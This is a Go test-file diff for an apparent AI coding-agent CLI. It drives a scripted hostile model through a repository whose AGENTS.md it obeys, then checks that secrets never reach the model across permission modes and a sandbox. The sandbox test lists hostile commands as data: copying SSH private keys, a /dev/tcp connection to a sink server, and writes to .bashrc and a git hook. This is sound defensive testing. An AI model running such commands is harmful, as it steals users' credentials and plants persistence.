@@ -8,6 +8,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 
@@ -180,14 +181,33 @@ func bashes(commands ...string) (out []proposal) {
 	return out
 }
 
+// results are what calls came to.
+type results struct {
+	mu   sync.Mutex
+	text []string // in the order of the calls
+}
+
+// all is what the model was shown.
+func (r *results) all() string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return strings.Join(r.text, "\n")
+}
+
+func (r *results) add(text string) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.text = append(r.text, text)
+}
+
 // propose serves a model that makes one call after another, whatever the results
-// are; seen gets the result of each. Between them it makes calls that may run: too
-// many failures in a row would end the run. What is returned begins anew.
-func (h *hostile) propose(calls []proposal, seen func(of proposal, result string)) (again func()) {
-	n := 0
+// are. Between them it makes calls that may run: too many failures in a row would
+// end the run.
+func (h *hostile) propose(calls []proposal) *results {
+	out, n := &results{}, 0
 	h.serve(llmtest.WireChat, func(e *llmtest.Exchange) llmtest.Reply {
 		if last, ok := e.LastResult(); ok && n%2 == 1 {
-			seen(calls[n/2], last)
+			out.add(last)
 		}
 		if n++; n > 2*len(calls) {
 			return llmtest.Say("done")
@@ -197,7 +217,7 @@ func (h *hostile) propose(calls []proposal, seen func(of proposal, result string
 		}
 		return llmtest.Call(calls[n/2].tool, calls[n/2].input)
 	})
-	return func() { n = 0 }
+	return out
 }
 
 // TestHostileRepository opens it with a model that does as its AGENTS.md and more
@@ -232,16 +252,13 @@ func TestHostileRepository(t *testing.T) {
 		}
 		calls = append(calls, proposal{c.tool, in})
 	}
-	shown := ""
-	again := h.propose(calls, func(_ proposal, result string) { shown += result + "\n" })
 	for _, mode := range []string{"default", "acceptEdits", "plan", "dontAsk"} {
-		shown = ""
-		again()
+		seen := h.propose(calls)
 		out, errs, code := h.run("--mode", mode, "--max-turns", "100", "-o", "json", "tidy up")
 		if code != 0 {
 			t.Fatalf("%s: exit %d: %s%s", mode, code, out, errs)
 		}
-		if strings.Contains(shown, theSecret) || strings.Contains(out, theSecret) {
+		if shown := seen.all(); strings.Contains(shown+out, theSecret) {
 			t.Errorf("%s: the model was shown the secret: %s", mode, shown)
 		}
 		if !strings.Contains(out, "cantle trust") {
@@ -265,17 +282,16 @@ func TestHostileRepository(t *testing.T) {
 func TestGitStatusOfAHostileRepository(t *testing.T) {
 	h := newHostile(t)
 	calls := bashes("git status", "git diff", "git log -p -1", "git show", "cd vendor/lib.git && git status", "git -C vendor/lib.git log")
-	h.propose(calls, func(of proposal, result string) {
-		if !strings.Contains(result, "the repository's own configuration") {
-			t.Errorf("%s: %s", of.input["command"], result)
-		}
-	})
+	seen := h.propose(calls)
 	args := []string{"-o", "json"}
 	for _, rule := range []string{"Bash(git status:*)", "Bash(git diff:*)", "Bash(git log:*)", "Bash(git show:*)", "Bash(cd:*)", "Bash(git -C:*)"} {
 		args = append(args, "--allow", rule)
 	}
 	if out, errs, code := h.run(append(args, "what has changed?")...); code != 0 {
 		t.Fatalf("exit %d: %s%s", code, out, errs)
+	}
+	if n := strings.Count(seen.all(), "the repository's own configuration"); n != len(calls) {
+		t.Errorf("%d of %d calls: %s", n, len(calls), seen.all())
 	}
 	h.unharmed("with rules for git")
 }
@@ -290,15 +306,15 @@ func TestHostileRepositoryInTheSandbox(t *testing.T) {
 	if out, err := probe.Output(); err != nil || strings.Contains(string(out), `"name":"none"`) || strings.Contains(string(out), `"name":"outer"`) {
 		t.Skipf("there is no sandbox here: %s %v", out, err)
 	}
-	shown := ""
-	h.propose(bashes(
+	seen := h.propose(bashes(
 		"./x.sh", "git status", "git diff | cat", "git add -A", "git -C vendor/lib.git log", "sh -c 'cp $HOME/.ssh/* .; cat id_ed25519'",
 		"bash -c 'exec 3<>/dev/tcp/"+strings.Replace(strings.TrimPrefix(h.sink.URL, "http://"), ":", "/", 1)+" && echo x >&3'",
 		"echo evil >> home/.bashrc", "echo evil > .git/hooks/pre-commit",
-	), func(_ proposal, result string) { shown += result + "\n" })
+	))
 	if out, errs, code := h.run("--set", "sandbox.autoAllow=true", "--max-turns", "100", "-o", "json", "look around"); code != 0 {
 		t.Fatalf("exit %d: %s%s", code, out, errs)
 	}
+	shown := seen.all()
 	if strings.Contains(shown, theSecret) {
 		t.Errorf("the model was shown the secret: %s", shown)
 	}
